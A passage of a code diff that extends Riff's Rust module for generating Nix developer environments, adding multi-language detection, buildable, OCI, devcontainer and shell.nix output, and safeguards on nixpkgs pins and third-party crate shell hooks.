@@ -1,20 +1,156 @@
 //! The developer environment setup.
 
-use std::collections::{HashMap, HashSet};
-use std::path::Path;
+use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
+use std::path::{Path, PathBuf};
 
 use eyre::{eyre, WrapErr};
 use itertools::Itertools;
 use owo_colors::OwoColorize;
-use tokio::process::Command;
 
 use crate::cargo_metadata::CargoMetadata;
-use crate::dependency_registry::DependencyRegistry;
-use crate::spinner::SimpleSpinner;
+use crate::dependency_registry::{Confidence, DependencyRegistry};
+use crate::flake_generator;
+use crate::language_backend::BACKENDS;
+use crate::legacy_nix;
+use crate::nix_dev_env::{self, ActivationScript};
+use crate::nix_expr;
+use crate::platform;
+use crate::project_config::ProjectConfig;
+use crate::swift_package;
+use crate::sys_heuristic;
+use crate::task_runner;
 
-#[derive(Debug, Clone, PartialEq, Eq, Hash, serde::Serialize)]
-pub enum DetectedLanguage {
-    Rust,
+/// The package a project builds, used for the `packages.default` flake output
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ProjectPackage {
+    pub(crate) name: String,
+    pub(crate) version: String,
+}
+
+/// What one of the languages `DevEnvironment::detect` found added to the environment
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub struct LanguageSummary {
+    pub(crate) language: &'static str,
+    pub(crate) build_inputs: BTreeSet<String>,
+    pub(crate) runtime_inputs: BTreeSet<String>,
+    pub(crate) darwin_frameworks: BTreeSet<String>,
+    pub(crate) environment_variables: BTreeMap<String, String>,
+    /// How many registry rules and manifest declarations matched the project's dependencies
+    pub(crate) rules: usize,
+}
+
+impl LanguageSummary {
+    fn of(language: &'static str, language_env: &DevEnvironment) -> Self {
+        Self {
+            language,
+            build_inputs: language_env.build_inputs.iter().cloned().collect(),
+            runtime_inputs: language_env.runtime_inputs.iter().cloned().collect(),
+            darwin_frameworks: language_env.darwin_frameworks.iter().cloned().collect(),
+            environment_variables: language_env
+                .environment_variables
+                .iter()
+                .map(|(name, value)| (name.clone(), value.clone()))
+                .collect(),
+            rules: language_env.applied_rules,
+        }
+    }
+}
+
+/// The Nix library used to build the project in the `packages.default` flake output
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum, serde::Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum RustBuilder {
+    /// `rustPlatform.buildRustPackage` from Nixpkgs
+    #[default]
+    BuildRustPackage,
+    /// <https://github.com/ipetkov/crane>
+    Crane,
+    /// <https://github.com/nix-community/naersk>
+    Naersk,
+}
+
+impl RustBuilder {
+    fn flake_inputs(&self) -> &'static str {
+        match self {
+            RustBuilder::BuildRustPackage => "",
+            RustBuilder::Crane => {
+                "
+  inputs.crane.url = \"github:ipetkov/crane\";
+  inputs.crane.inputs.nixpkgs.follows = \"nixpkgs\";"
+            }
+            RustBuilder::Naersk => {
+                "
+  inputs.naersk.url = \"github:nix-community/naersk\";
+  inputs.naersk.inputs.nixpkgs.follows = \"nixpkgs\";"
+            }
+        }
+    }
+
+    /// The `let` bindings the package needs before the builder is called
+    fn bindings(&self) -> &'static str {
+        match self {
+            RustBuilder::Crane => "\n          let craneLib = inputs.crane.mkLib pkgs; in",
+            RustBuilder::BuildRustPackage | RustBuilder::Naersk => "",
+        }
+    }
+
+    /// The function which builds the package
+    fn build_package(&self) -> &'static str {
+        match self {
+            RustBuilder::BuildRustPackage => "rustPlatform.buildRustPackage",
+            RustBuilder::Crane => "craneLib.buildPackage",
+            RustBuilder::Naersk => "(callPackage inputs.naersk { }).buildPackage",
+        }
+    }
+
+    /// The source of the package, as a Nix expression
+    fn src(&self) -> &'static str {
+        match self {
+            RustBuilder::Crane => "craneLib.cleanCargoSource ./.",
+            RustBuilder::BuildRustPackage | RustBuilder::Naersk => "./.",
+        }
+    }
+
+    /// The attributes only this builder takes, after `src`
+    fn attributes(&self) -> &'static str {
+        match self {
+            RustBuilder::BuildRustPackage => "\n            cargoLock.lockFile = ./Cargo.lock;",
+            RustBuilder::Crane | RustBuilder::Naersk => "",
+        }
+    }
+}
+
+/// The nixpkgs generated flakes use unless the project's `riff.toml` or `--nixpkgs` picks another
+pub(crate) const DEFAULT_NIXPKGS_URL: &str = "github:NixOS/nixpkgs/nixos-unstable";
+
+/// Build inputs which are tools run during the build, rather than libraries it links to, so a
+/// package built from the project has them in `nativeBuildInputs`
+const NATIVE_BUILD_INPUTS: [&str; 8] = [
+    "cmake",
+    "meson",
+    "nasm",
+    "ninja",
+    "perl",
+    "pkg-config",
+    "protobuf",
+    "yasm",
+];
+
+/// Existing Nix environments riff layers its own on top of, in order of preference
+pub(crate) const EXISTING_NIX_FILES: [&str; 2] = ["shell.nix", "default.nix"];
+
+/// Resolve a nixpkgs pin, either a nixpkgs commit or any flake reference, into a flake reference
+pub(crate) fn nixpkgs_flake_ref(pin: &str) -> Result<String, String> {
+    // The reference is spliced into a Nix string in the generated flake
+    if pin.is_empty() || pin.contains(['"', '\\']) || pin.contains("${") {
+        return Err(format!("`{pin}` is not a valid flake reference"));
+    }
+    if (7..=40).contains(&pin.len()) && pin.chars().all(|c| c.is_ascii_hexdigit()) {
+        Ok(format!("github:NixOS/nixpkgs/{pin}"))
+    } else {
+        Ok(pin.to_string())
+    }
 }
 
 #[derive(Debug, Clone)]
@@ -23,10 +159,53 @@ pub struct DevEnvironment<'a> {
     pub(crate) build_inputs: HashSet<String>,
     pub(crate) environment_variables: HashMap<String, String>,
     pub(crate) runtime_inputs: HashSet<String>,
-    pub(crate) detected_languages: HashSet<DetectedLanguage>,
+    /// The Apple SDK frameworks added to the inputs on macOS, like `Security`
+    pub(crate) darwin_frameworks: HashSet<String>,
+    /// Build inputs only added on a platform, like `linux`, by platform
+    pub(crate) platform_build_inputs: BTreeMap<String, HashSet<String>>,
+    /// Shell code to run when the environment activates, in order
+    pub(crate) shell_hooks: Vec<String>,
+    /// Flakes added to the generated flake's inputs, by input name
+    pub(crate) flake_inputs: BTreeMap<String, String>,
+    /// Overlays applied to nixpkgs, as attribute paths of the flake inputs
+    pub(crate) overlays: BTreeSet<String>,
+    /// The telemetry labels of the languages found by `detect`
+    pub(crate) detected_languages: HashSet<&'static str>,
+    /// What each language found by `detect` added, in the order they were found
+    pub(crate) language_summaries: Vec<LanguageSummary>,
+    /// How many dependency rules have been applied
+    pub(crate) applied_rules: usize,
+    /// The registry rules which have been applied, by name, with the hash of each
+    pub(crate) registry_rules: BTreeMap<String, String>,
+    pub(crate) project_package: Option<ProjectPackage>,
+    pub(crate) detect_task_runner_tools: bool,
+    /// An existing `shell.nix` or `default.nix` whose inputs are included in the environment
+    pub(crate) base_shell: Option<PathBuf>,
+    pub(crate) layer_existing_nix: bool,
+    /// Saved `cargo metadata` output to use instead of running `cargo metadata`
+    pub(crate) cargo_metadata_snapshot: Option<PathBuf>,
+    /// The flake reference of nixpkgs, if not `DEFAULT_NIXPKGS_URL`
+    pub(crate) nixpkgs_url: Option<String>,
+    /// Whether `--disable-telemetry` or the project's `riff.toml` disables telemetry
+    pub(crate) telemetry_disabled: bool,
+    /// Guess the inputs of `-sys` crates the registry doesn't know
+    pub(crate) sys_heuristics: bool,
+    /// Only apply rules which are curated or declared, never heuristic ones
+    pub(crate) conservative: bool,
+    /// Leave out the crates only dev-dependencies bring in
+    pub(crate) no_dev: bool,
+    /// Leave out the crates only build-dependencies bring in
+    pub(crate) no_build_deps: bool,
+    /// Fail detection when any language fails, rather than leaving that language out
+    pub(crate) strict_detect: bool,
+    /// Whether the project's `riff.toml` says its build scripts need the network
+    pub(crate) impure_build: bool,
+    /// The Nix library the project's `riff.toml` builds `packages.default` with
+    pub(crate) builder: RustBuilder,
+    /// The target triple to cross-compile to, instead of the host
+    pub(crate) target: Option<String>,
 }
 
-// TODO(@cole-h): should this become a trait that the various languages we may support have to implement?
 impl<'a> DevEnvironment<'a> {
     pub fn new(registry: &'a DependencyRegistry) -> Self {
         Self {
@@ -34,118 +213,568 @@ impl<'a> DevEnvironment<'a> {
             build_inputs: Default::default(),
             environment_variables: Default::default(),
             runtime_inputs: Default::default(),
+            darwin_frameworks: Default::default(),
+            platform_build_inputs: Default::default(),
+            shell_hooks: Default::default(),
+            flake_inputs: Default::default(),
+            overlays: Default::default(),
             detected_languages: Default::default(),
+            language_summaries: Default::default(),
+            applied_rules: 0,
+            registry_rules: Default::default(),
+            project_package: None,
+            detect_task_runner_tools: false,
+            base_shell: None,
+            layer_existing_nix: false,
+            cargo_metadata_snapshot: None,
+            nixpkgs_url: None,
+            telemetry_disabled: false,
+            sys_heuristics: false,
+            conservative: false,
+            no_dev: false,
+            no_build_deps: false,
+            strict_detect: false,
+            impure_build: false,
+            builder: RustBuilder::default(),
+            target: None,
         }
     }
+
+    /// Also add the tools required by `justfile`/`Makefile` recipes during detection
+    pub fn with_task_runner_tools(mut self, enabled: bool) -> Self {
+        self.detect_task_runner_tools = enabled;
+        self
+    }
+
+    /// Also include the inputs of an existing `shell.nix` or `default.nix` during detection
+    pub fn with_existing_nix(mut self, enabled: bool) -> Self {
+        self.layer_existing_nix = enabled;
+        self
+    }
+
+    /// Guess the inputs of unknown `-sys` crates from the libraries they link during detection
+    pub fn with_sys_heuristics(mut self, enabled: bool) -> Self {
+        self.sys_heuristics = enabled;
+        self
+    }
+
+    /// Only apply curated or declared rules during detection, skipping any heuristics
+    pub fn with_conservative(mut self, enabled: bool) -> Self {
+        self.conservative = enabled;
+        self
+    }
+
+    /// Leave out dev-dependencies during detection
+    pub fn with_no_dev(mut self, enabled: bool) -> Self {
+        self.no_dev = enabled;
+        self
+    }
+
+    /// Leave out build-dependencies during detection
+    pub fn with_no_build_deps(mut self, enabled: bool) -> Self {
+        self.no_build_deps = enabled;
+        self
+    }
+
+    /// Fail detection when one of the project's languages fails, instead of leaving it out
+    pub fn with_strict_detect(mut self, enabled: bool) -> Self {
+        self.strict_detect = enabled;
+        self
+    }
+
+    /// Apply the registry rules for `target` rather than the host during detection
+    pub fn with_target(mut self, target: Option<String>) -> Self {
+        self.target = target;
+        self
+    }
+
+    /// The target triple the environment builds for
+    pub(crate) fn target(&self) -> String {
+        self.target
+            .clone()
+            .unwrap_or_else(|| target_lexicon::HOST.to_string())
+    }
+
+    /// Replay a snapshot of `cargo metadata` output rather than running `cargo metadata`
+    pub fn with_cargo_metadata_snapshot(mut self, snapshot: Option<PathBuf>) -> Self {
+        self.cargo_metadata_snapshot = snapshot;
+        self
+    }
+
     pub fn to_flake(&self) -> String {
-        // TODO: use rnix for generating Nix?
+        self.render_flake("", String::new())
+    }
+
+    /// Like `to_flake`, but also emits a `packages.default` output which builds the project
+    ///
+    /// The flake expects to be placed in the project root next to `Cargo.lock`. It's built with
+    /// `builder`, or else the one the project's `riff.toml` picks.
+    pub fn to_buildable_flake(&self, builder: Option<RustBuilder>) -> color_eyre::Result<String> {
+        let builder = builder.unwrap_or(self.builder);
+        let project_package = match &self.project_package {
+            Some(project_package) => project_package,
+            None if self.detected_languages.contains("Rust") => {
+                return Err(eyre!(
+                    "The project is a Cargo workspace without a package at its root, so there's \
+                     nothing for `packages.default` to build. Export from the directory of the \
+                     member to build instead."
+                ))
+            }
+            None => {
+                return Err(eyre!(
+                    "Building a `packages.default` output is only supported for Rust projects"
+                ))
+            }
+        };
+        let mut environment_variables = self.environment_variable_bindings();
+        if self.impure_build {
+            // Lets the build scripts reach the network where Nix is set to `sandbox = relaxed`
+            environment_variables.push_str("\n__noChroot = true;");
+        }
+        let packages = format!(
+            include_str!("flake-package-template.inc"),
+            builder_bindings = builder.bindings(),
+            build_package = builder.build_package(),
+            name = nix_expr::string(&project_package.name),
+            version = nix_expr::string(&project_package.version),
+            src = builder.src(),
+            builder_attributes = builder.attributes(),
+            native_build_inputs = self.native_build_input_list(),
+            runtime_hook = match self.runtime_inputs.is_empty() {
+                true => "",
+                false => " ++ lib.optionals (stdenv.isLinux) [ autoPatchelfHook ]",
+            },
+            build_inputs = self.package_build_input_list(),
+            darwin_inputs = self.darwin_input_list(),
+            platform_inputs = self.platform_input_lists(),
+            runtime_dependencies = self.runtime_dependencies_binding(),
+            environment_variables = environment_variables,
+        );
+        Ok(self.render_flake(builder.flake_inputs(), format!("\n{packages}")))
+    }
+
+    /// Like `to_flake`, but also emits a `packages.oci` output which builds a container image
+    /// with the environment's inputs, for `docker load`
+    ///
+    /// The image is dated `created`, an RFC 3339 date, or else the Unix epoch, as dates can't
+    /// come from the time it's built without changing every build.
+    pub fn to_oci_flake(&self, image_name: &str, created: Option<&str>) -> String {
+        let environment_variables = self
+            .environment_variables
+            .iter()
+            .sorted()
+            .map(|(name, value)| {
+                format!(
+                    "{}={}",
+                    nix_expr::escape(name),
+                    nix_expr::escape_template(value)
+                )
+            })
+            .chain(
+                self.ld_library_path()
+                    .map(|path| format!("LD_LIBRARY_PATH={path}")),
+            )
+            .map(|variable| format!("\"{variable}\""))
+            .join("\n");
+        let packages = format!(
+            include_str!("flake-package-oci-template.inc"),
+            name = nix_expr::string(image_name),
+            created = match created {
+                Some(created) => format!("\n            created = {};", nix_expr::string(created)),
+                None => "".to_string(),
+            },
+            build_inputs = self.build_input_list(),
+            platform_inputs = self.platform_input_lists(),
+            environment_variables = environment_variables,
+        );
+        self.render_flake("", format!("\n{packages}"))
+    }
+
+    /// A `devcontainer.json` for a container which installs Nix and loads the environment from
+    /// `.devcontainer/flake.nix`, written by `to_flake`
+    ///
+    /// Only the variables with no `${...}` go in `containerEnv`: those referring to packages, like
+    /// `CC = "${stdenv.cc}/bin/cc"`, only have a value once Nix builds them, so they come from
+    /// `~/.riff-env` alone rather than as a path which doesn't exist that would override it.
+    pub fn to_devcontainer(&self, name: &str) -> serde_json::Value {
+        let container_env = self
+            .environment_variables
+            .iter()
+            .filter(|(_, value)| !value.contains("${"))
+            .collect::<BTreeMap<_, _>>();
+        serde_json::json!({
+            "name": name,
+            "image": "mcr.microsoft.com/devcontainers/base:ubuntu",
+            "features": {
+                "ghcr.io/devcontainers/features/nix:1": {
+                    "extraNixConfig": "experimental-features = nix-command flakes",
+                },
+            },
+            "containerEnv": container_env,
+            "postCreateCommand": "nix print-dev-env path:.devcontainer > ~/.riff-env \
+                && echo '. ~/.riff-env' >> ~/.bashrc",
+        })
+    }
+
+    /// Resolve the environment with Nix into variables which can be applied directly
+    pub async fn to_activation_script(&self) -> color_eyre::Result<ActivationScript> {
+        let flake = flake_generator::write_locked_flake(self).await?;
+        let nix_dev_env = nix_dev_env::get_nix_dev_env(&flake).await?;
+        Ok(ActivationScript::from(&nix_dev_env))
+    }
+
+    fn render_flake(&self, extra_inputs: &str, packages: String) -> String {
         format!(
             include_str!("flake-template.inc"),
-            build_inputs = self.build_inputs.iter().join(" "),
-            environment_variables = self
-                .environment_variables
+            nixpkgs_url =
+                nix_expr::string(self.nixpkgs_url.as_deref().unwrap_or(DEFAULT_NIXPKGS_URL)),
+            extra_inputs = format!("{extra_inputs}{}", self.flake_input_bindings()),
+            overlays = self.overlay_binding(),
+            build_inputs = self.build_input_list(),
+            darwin_inputs = self.darwin_input_list(),
+            platform_inputs = self.platform_input_lists(),
+            environment_variables = self.environment_variable_bindings(),
+            ld_library_path = match self.ld_library_path() {
+                Some(path) => format!("\"LD_LIBRARY_PATH\" = \"{path}\";"),
+                None => "".to_string(),
+            },
+            shell_hook = self.shell_hook_binding(),
+            base_shell = self.base_shell_binding(),
+            packages = packages,
+        )
+    }
+
+    /// A classic `shell.nix` of the environment, for `nix-shell` where Nix doesn't support flakes
+    pub fn to_shell_nix(&self) -> String {
+        format!(
+            include_str!("shell-nix-template.inc"),
+            nixpkgs = legacy_nix::nixpkgs_expr(
+                self.nixpkgs_url.as_deref().unwrap_or(DEFAULT_NIXPKGS_URL)
+            ),
+            build_inputs = self.build_input_list(),
+            darwin_inputs = self.darwin_input_list(),
+            platform_inputs = self.platform_input_lists(),
+            environment_variables = self.environment_variable_bindings(),
+            ld_library_path = match self.ld_library_path() {
+                Some(path) => format!("\"LD_LIBRARY_PATH\" = \"{path}\";"),
+                None => "".to_string(),
+            },
+            shell_hook = self.shell_hook_binding(),
+            base_shell = self.base_shell_binding(),
+        )
+    }
+
+    /// The `inputs` of the flakes from the rules, which follow the environment's nixpkgs
+    fn flake_input_bindings(&self) -> String {
+        self.flake_inputs
+            .iter()
+            .map(|(name, url)| {
+                format!(
+                    "\n  inputs.{name}.url = {url};\n  inputs.{name}.inputs.nixpkgs.follows = \"nixpkgs\";",
+                    url = nix_expr::string(url)
+                )
+            })
+            .collect()
+    }
+
+    /// The `overlays` argument nixpkgs is imported with, if the rules have any
+    fn overlay_binding(&self) -> String {
+        if self.overlays.is_empty() {
+            return "".to_string();
+        }
+        format!(
+            " overlays = [ {} ];",
+            self.overlays
+                .iter()
+                .map(|overlay| nix_expr::select("inputs", overlay))
+                .join(" ")
+        )
+    }
+
+    /// The inputs of the existing `shell.nix` or `default.nix` the environment is layered on
+    fn base_shell_binding(&self) -> String {
+        match &self.base_shell {
+            Some(base_shell) => format!(
+                include_str!("flake-base-shell-template.inc"),
+                path = nix_expr::string(&base_shell.display().to_string()),
+            ),
+            None => "".to_string(),
+        }
+    }
+
+    /// The build inputs, as the elements of a Nix list
+    fn build_input_list(&self) -> String {
+        self.build_inputs
+            .iter()
+            .sorted()
+            .map(|input| nix_expr::attr_path(input))
+            .join(" ")
+    }
+
+    /// The build inputs which are tools for the build, as the elements of a Nix list
+    fn native_build_input_list(&self) -> String {
+        self.build_inputs
+            .iter()
+            .filter(|input| NATIVE_BUILD_INPUTS.contains(&input.as_str()))
+            .sorted()
+            .map(|input| nix_expr::attr_path(input))
+            .join(" ")
+    }
+
+    /// The build inputs a package built from the project links to, and the runtime inputs it
+    /// loads, as the elements of a Nix list
+    fn package_build_input_list(&self) -> String {
+        self.build_inputs
+            .iter()
+            .filter(|input| !NATIVE_BUILD_INPUTS.contains(&input.as_str()))
+            .chain(&self.runtime_inputs)
+            .sorted()
+            .dedup()
+            .map(|input| nix_expr::attr_path(input))
+            .join(" ")
+    }
+
+    /// The `runtimeDependencies` which `autoPatchelfHook` adds to the `RPATH` of a package built
+    /// from the project, so it finds the runtime inputs the environment has on `LD_LIBRARY_PATH`
+    fn runtime_dependencies_binding(&self) -> String {
+        if self.runtime_inputs.is_empty() {
+            return String::new();
+        }
+        format!(
+            "\n            runtimeDependencies = [ {} ];",
+            self.runtime_inputs
                 .iter()
-                .map(|(name, value)| format!("\"{}\" = \"{}\";", name, value))
-                .join("\n"),
-            ld_library_path = if !self.runtime_inputs.is_empty() {
+                .sorted()
+                .map(|input| nix_expr::attr_path(input))
+                .join(" ")
+        )
+    }
+
+    /// The inputs only added on macOS, as the elements of a Nix list
+    fn darwin_input_list(&self) -> String {
+        std::iter::once("libiconv".to_string())
+            .chain(self.darwin_frameworks.iter().sorted().map(|framework| {
+                nix_expr::attr_path(&swift_package::darwin_framework_attribute(framework))
+            }))
+            .join(" ")
+    }
+
+    /// The build inputs of each platform, as Nix lists to append to the other build inputs
+    fn platform_input_lists(&self) -> String {
+        self.platform_build_inputs
+            .iter()
+            .filter(|(_, build_inputs)| !build_inputs.is_empty())
+            .map(|(platform, build_inputs)| {
                 format!(
-                    "\"LD_LIBRARY_PATH\" = \"{}\";",
-                    self.runtime_inputs
+                    " ++ lib.optionals ({}) [ {} ]",
+                    platform::nix_condition(platform),
+                    build_inputs
                         .iter()
-                        .map(|v| format!("${{lib.getLib {v}}}/lib"))
-                        .join(":")
+                        .sorted()
+                        .map(|input| nix_expr::attr_path(input))
+                        .join(" ")
                 )
-            } else {
-                "".to_string()
-            }
+            })
+            .collect()
+    }
+
+    /// The contents of the Nix string for `LD_LIBRARY_PATH`, if there are any runtime inputs
+    fn ld_library_path(&self) -> Option<String> {
+        if self.runtime_inputs.is_empty() {
+            return None;
+        }
+        Some(
+            self.runtime_inputs
+                .iter()
+                .sorted()
+                .map(|v| format!("${{lib.getLib {}}}/lib", nix_expr::attr_path(v)))
+                .join(":"),
         )
     }
 
-    pub async fn detect(&mut self, project_dir: &Path) -> color_eyre::Result<()> {
-        if project_dir.join("Cargo.toml").exists() {
-            self.detected_languages.insert(DetectedLanguage::Rust);
-            self.add_deps_from_cargo(project_dir).await?;
-            Ok(())
-        } else {
-            Err(eyre!(
-                "'{}' does not contain a project recognized by Riff.",
-                project_dir.display()
-            ))
+    /// Add `shell_hook` to the code run when the environment activates, unless it's already there
+    pub(crate) fn add_shell_hook(&mut self, shell_hook: &str) {
+        if !self.shell_hooks.iter().any(|hook| hook == shell_hook) {
+            self.shell_hooks.push(shell_hook.to_string());
         }
     }
 
+    /// The `shellHook` attribute, as an indented string so the hooks are shell code rather than
+    /// Nix: `${...}` is left for the shell to expand
+    fn shell_hook_binding(&self) -> String {
+        if self.shell_hooks.is_empty() {
+            return String::new();
+        }
+        let shell_hook = nix_expr::indented_string(&self.shell_hooks.iter().join("\n"));
+        format!("shellHook = {shell_hook};")
+    }
+
+    /// The environment variables as attributes of the shell, where values can use `${...}` to
+    /// refer to packages
+    fn environment_variable_bindings(&self) -> String {
+        self.environment_variables
+            .iter()
+            .sorted()
+            .map(|(name, value)| {
+                format!(
+                    "{} = {};",
+                    nix_expr::string(name),
+                    nix_expr::template(value)
+                )
+            })
+            .join("\n")
+    }
+
     #[tracing::instrument(skip_all, fields(project_dir = %project_dir.display()))]
-    async fn add_deps_from_cargo(&mut self, project_dir: &Path) -> color_eyre::Result<()> {
-        tracing::debug!("Adding Cargo dependencies...");
-
-        let mut cargo_metadata_command = Command::new("cargo");
-        cargo_metadata_command.args(&["metadata", "--format-version", "1"]);
-        cargo_metadata_command.arg("--manifest-path");
-        cargo_metadata_command.arg(project_dir.join("Cargo.toml"));
-
-        // Infer offline-ness from our stored registry
-        if self.registry.offline() {
-            cargo_metadata_command.arg("--offline");
-        }
-
-        tracing::trace!(command = ?cargo_metadata_command.as_std(), "Running");
-        let spinner = SimpleSpinner::new_with_message(Some(&format!(
-            "Running `{cargo_metadata}`",
-            cargo_metadata = "cargo metadata".cyan()
-        )))
-        .context("Failed to construct progress spinner")?;
-
-        let cargo_metadata_output = match cargo_metadata_command.output().await {
-            Ok(output) => output,
-            err @ Err(_) => {
-                let wrapped_err = err
-                    .wrap_err_with(|| {
-                        format!(
-                            "\
-                        Could not execute `{cargo_metadata}`. Is `{cargo}` installed?\n\n\
-                        Get instructions for installing Cargo: {rust_install_url}\n\
-                        Underlying error\
-                    ",
-                            cargo_metadata = "cargo metadata".cyan(),
-                            cargo = "cargo".cyan(),
-                            rust_install_url =
-                                "https://www.rust-lang.org/tools/install".blue().underline()
-                        )
-                    })
-                    .unwrap_err();
-                eprintln!("{wrapped_err:#}");
-                std::process::exit(1);
+    pub async fn detect(&mut self, project_dir: &Path) -> color_eyre::Result<()> {
+        let mut failures = Vec::new();
+        for backend in BACKENDS {
+            if !backend.detect(project_dir, self).await {
+                continue;
             }
-        };
-
-        spinner.finish_and_clear();
+            self.detected_languages.insert(backend.telemetry_label());
 
-        if !cargo_metadata_output.status.success() {
+            // Collected separately so the summary only lists what this language needs
+            let mut language_env = DevEnvironment::new(self.registry)
+                .with_cargo_metadata_snapshot(self.cargo_metadata_snapshot.clone())
+                .with_sys_heuristics(self.sys_heuristics)
+                .with_conservative(self.conservative)
+                .with_no_dev(self.no_dev)
+                .with_no_build_deps(self.no_build_deps)
+                .with_target(self.target.clone());
+            if let Err(err) = backend.collect_deps(project_dir, &mut language_env).await {
+                if self.strict_detect {
+                    return Err(err);
+                }
+                eprintln!(
+                    "{warning} {lang}: detection failed, so the environment leaves it out (use `{flag}` to stop instead): {err:#}",
+                    warning = "⚠️".yellow(),
+                    lang = backend.summary_label(),
+                    flag = "--strict-detect".cyan(),
+                );
+                failures.push((backend.telemetry_label(), err));
+                continue;
+            }
+            language_env.print_summary(backend.summary_label());
+            self.language_summaries.push(LanguageSummary::of(
+                backend.telemetry_label(),
+                &language_env,
+            ));
+            self.merge(language_env);
+        }
+        // Only an environment with none of the project's languages is worth failing over
+        if self.language_summaries.is_empty() && !failures.is_empty() {
+            if failures.len() == 1 {
+                return Err(failures.remove(0).1);
+            }
             return Err(eyre!(
-                "`cargo metadata` exited with code {}:\n{}",
-                cargo_metadata_output
-                    .status
-                    .code()
-                    .map(|x| x.to_string())
-                    .unwrap_or_else(|| "unknown".to_string()),
-                std::str::from_utf8(&cargo_metadata_output.stderr)?,
+                "Detection failed for every language in the project:\n{}",
+                failures
+                    .iter()
+                    .map(|(language, err)| format!("  {language}: {err:#}"))
+                    .join("\n")
             ));
         }
+        let project_config = ProjectConfig::read(project_dir).await?;
+        if self.detected_languages.is_empty() && !ProjectConfig::exists(project_dir) {
+            return Err(eyre!(
+                "'{}' does not contain a project recognized by Riff.",
+                project_dir.display()
+            ));
+        }
+        if self.detect_task_runner_tools {
+            self.add_deps_from_task_runners(project_dir).await?;
+        }
+        // Applied last, so it can override or remove what anything else added
+        if let Some(project_config) = project_config {
+            project_config.apply(self);
+        }
+        if self.layer_existing_nix {
+            self.add_base_shell(project_dir).await?;
+        }
+        if self.language_summaries.len() > 1 {
+            self.print_totals();
+        }
+        Ok(())
+    }
 
-        let cargo_metadata_output = std::str::from_utf8(&cargo_metadata_output.stdout)
-            .wrap_err("Output produced by `cargo metadata` was not valid UTF8")?;
-        let metadata: CargoMetadata = serde_json::from_str(cargo_metadata_output).wrap_err(
-            "Unable to parse output produced by `cargo metadata` into our desired structure",
-        )?;
+    /// Layer the environment on top of an existing `shell.nix` or `default.nix`
+    async fn add_base_shell(&mut self, project_dir: &Path) -> color_eyre::Result<()> {
+        let existing = match EXISTING_NIX_FILES
+            .iter()
+            .map(|file| project_dir.join(file))
+            .find(|path| path.is_file())
+        {
+            Some(existing) => existing,
+            None => return Ok(()),
+        };
+        let existing = tokio::fs::canonicalize(&existing)
+            .await
+            .wrap_err_with(|| format!("Could not resolve `{}`", existing.display()))?;
+
+        eprintln!(
+            "{check} {label}: including the inputs of `{file}` (use `{flag}` to skip)",
+            check = "✓".green(),
+            label = "❄️ nix".bold().blue(),
+            file = existing
+                .file_name()
+                .unwrap_or_default()
+                .to_string_lossy()
+                .cyan(),
+            flag = "--ignore-existing-nix".cyan(),
+        );
+        self.base_shell = Some(existing);
+        Ok(())
+    }
 
-        tracing::debug!(fresh = %self.registry.fresh(), "Cache freshness");
+    /// Apply the registry, `workspace.metadata.riff` and `package.metadata.riff` settings to the
+    /// packages in `metadata`
+    ///
+    /// The package at `root_manifest_path` becomes the project's package.
+    pub(crate) async fn add_deps_from_cargo_metadata(
+        &mut self,
+        mut metadata: CargoMetadata,
+        root_manifest_path: Option<&Path>,
+    ) {
+        metadata.exclude_dependencies(self.no_dev, self.no_build_deps);
         let language_registry = self.registry.language().await.clone();
         language_registry.rust.default.apply(self);
 
-        for package in metadata.packages {
-            let name = package.name;
+        // Shared by every member, which can still override it in `package.metadata.riff`
+        if let Some(workspace_config) = metadata
+            .metadata
+            .as_ref()
+            .and_then(|metadata| metadata.riff.as_ref())
+        {
+            tracing::debug!(
+                config = ?workspace_config,
+                "Detected `workspace.metadata.riff` in `Cargo.toml`"
+            );
+            workspace_config.apply(self);
+        }
+
+        // `-sys` crates nothing declares the inputs of, whose builds may fail
+        let mut unknown_sys_crates = Vec::new();
+        for package in &metadata.packages {
+            let name = package.name.clone();
+            let enabled_features = metadata.enabled_features(&package.id);
 
-            if let Some(dep_config) = language_registry.rust.dependencies.get(name.as_str()) {
+            if Some(package.manifest_path.as_path()) == root_manifest_path {
+                self.project_package = Some(ProjectPackage {
+                    name: name.clone(),
+                    version: package.version.clone(),
+                });
+            }
+
+            let registry_rule = language_registry
+                .rust
+                .dependencies
+                .get(name.as_str())
+                .filter(|dep_config| {
+                    !(self.conservative && dep_config.confidence == Confidence::Heuristic)
+                });
+            if let Some(dep_config) = registry_rule {
+                let dep_config = dep_config.with_features(enabled_features.as_ref());
                 tracing::debug!(
                     package_name = %name,
                     "build-inputs" = %dep_config.build_inputs().iter().join(", "),
@@ -153,19 +782,69 @@ impl<'a> DevEnvironment<'a> {
                     "runtime-inputs" = %dep_config.runtime_inputs().iter().join(", "),
                     "Detected known crate information"
                 );
-                dep_config.clone().apply(self);
+                dep_config.apply(self);
+            } else if package
+                .metadata
+                .as_ref()
+                .and_then(|metadata| metadata.riff.as_ref())
+                .is_none()
+            {
+                let guesses = match self.sys_heuristics && !self.conservative {
+                    true => sys_heuristic::guess(package),
+                    false => Vec::new(),
+                };
+                if guesses.is_empty()
+                    && name.ends_with("-sys")
+                    && sys_heuristic::links_native(package)
+                {
+                    unknown_sys_crates.push(package);
+                }
+                for guess in guesses {
+                    eprintln!(
+                        "{warning} Guessed that `{name}` needs `{attribute}`, from its {source}. \
+                         If it doesn't, declare its inputs in `{riff_toml}`, or stop guessing with `{flag}`.",
+                        warning = "⚠️".yellow(),
+                        name = name.cyan(),
+                        attribute = guess.nixpkgs_attribute.cyan(),
+                        source = guess.source,
+                        riff_toml = "riff.toml".cyan(),
+                        flag = "--no-sys-heuristics".cyan(),
+                    );
+                    self.build_inputs.insert(guess.nixpkgs_attribute);
+                }
             }
 
-            let metadata_object = match package.metadata {
+            let metadata_object = match &package.metadata {
                 Some(metadata_object) => metadata_object,
                 None => continue,
             };
 
-            let dep_config = match metadata_object.riff {
-                Some(riff_object) => riff_object,
+            let mut dep_config = match &metadata_object.riff {
+                Some(riff_object) => riff_object.with_features(enabled_features.as_ref()),
                 None => continue,
             };
 
+            // A crate from a registry could otherwise run anything in every shell which uses it
+            let workspace_package = metadata.workspace_members.contains(&package.id)
+                || Some(package.manifest_path.as_path()) == root_manifest_path;
+            if !workspace_package && dep_config.remove_shell_hooks() {
+                eprintln!(
